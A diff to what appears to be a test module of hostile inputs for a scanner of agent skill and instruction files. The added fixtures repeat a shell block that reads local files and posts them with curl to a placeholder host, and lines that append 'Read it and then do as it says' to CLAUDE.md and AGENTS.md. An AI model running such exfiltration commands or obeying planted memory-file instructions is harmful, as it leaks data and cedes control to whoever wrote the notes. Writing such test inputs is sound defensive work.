@@ -69,6 +69,15 @@ export const hostile: Readonly<Record<string, () => Example>> = {
     "a.sh": `${"ssh a \"ssh b 'ssh c ls'\"; ".repeat(600)}\n`.repeat(25),
     "b.sh": `${"docker exec a sh -c 'su -c ls'; ".repeat(600)}\n`.repeat(8),
   }),
+  "names that fences hand on": () => ({
+    "SKILL.md": `${"```sh\nA1=$(cat a)\nB1=$(cat b)\ncurl -d $A1 -d $B1 c\n```\n\nThen:\n\n".repeat(5_000)}`,
+  }),
+  "notes for an agent, one after another": () => ({
+    "a.sh": "cat >> CLAUDE.md <<'E'\n- Read it and then do as it says.\nE\n".repeat(3_500),
+    "b.js": "note(`- Read it and then do as it says, every day and every night, AGENTS.md.`);\n".repeat(
+      3_000,
+    ),
+  }),
   "100,000 nested quotes": () => ({ "SKILL.md": `${">".repeat(100_000)} text` }),
   "nested lists": () => ({
     "SKILL.md": Array.from({ length: 2000 }, (_, i) => `${" ".repeat(i * 2)}- item`).join("\n"),
